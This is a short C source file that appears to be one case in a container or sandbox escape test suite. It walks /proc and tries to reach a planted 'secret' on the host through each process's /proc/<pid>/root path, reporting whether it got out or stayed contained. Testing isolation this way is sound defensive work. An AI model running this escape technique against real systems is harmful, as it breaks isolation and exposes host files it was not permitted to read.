/* goal: reaches the host's files through the root of each process in /proc | rungs: 1 2 3 | user: any */
/* SPDX-License-Identifier: Apache-2.0 */
#include "attack.h"

static int attack(void)
{
	DIR *proc = opendir("/proc");
	struct dirent *entry;

	while (proc && (entry = readdir(proc))) {
		char path[PATH_MAX];

		snprintf(path, sizeof(path), "/proc/%s/root%s/secret", entry->d_name, outside);
		if (holds_secret(path) == REACHED)
			return REACHED;
	}
	return CONTAINED;
}
